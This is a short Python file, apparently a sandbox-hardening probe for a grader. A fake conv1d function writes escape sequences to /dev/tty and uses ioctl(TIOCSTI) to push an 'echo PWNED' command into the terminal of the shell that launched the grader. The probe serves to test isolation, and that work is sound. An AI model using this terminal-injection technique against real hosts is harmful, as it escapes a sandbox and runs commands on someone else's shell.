"""Terminal injection (stage conv1d): push keystrokes into the instructor's terminal with ioctl(TIOCSTI) on fds 0-2
and /dev/tty, and write escape sequences to /dev/tty directly (bypassing the captured output), e.g. to type a
command into the shell that ran `python -m grader batch`. Held if /dev/tty cannot be opened and TIOCSTI fails
everywhere (bubblewrap's --new-session)."""
import fcntl
import os
import termios


def run_conv1d(x, weight, bias):
    said = []
    targets = [("fd0", 0), ("fd1", 1), ("fd2", 2)]
    try:
        targets.append(("/dev/tty", os.open("/dev/tty", os.O_RDWR)))
        os.write(targets[-1][1], b"\x1b]0;PWNED\x07\x1b[2J")
    except OSError as e:
        said.append(f"/dev/tty: {e.strerror}")
    for name, fd in targets:
        try:
            for ch in b"echo PWNED\n":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            said.append(f"{name}: TIOCSTI WORKED")
        except OSError as e:
            said.append(f"{name}: {e.strerror}")
    if not os.path.exists("/tmp/said"):
        open("/tmp/said", "w").close()
        raise RuntimeError("; ".join(said))
    return x @ weight + bias
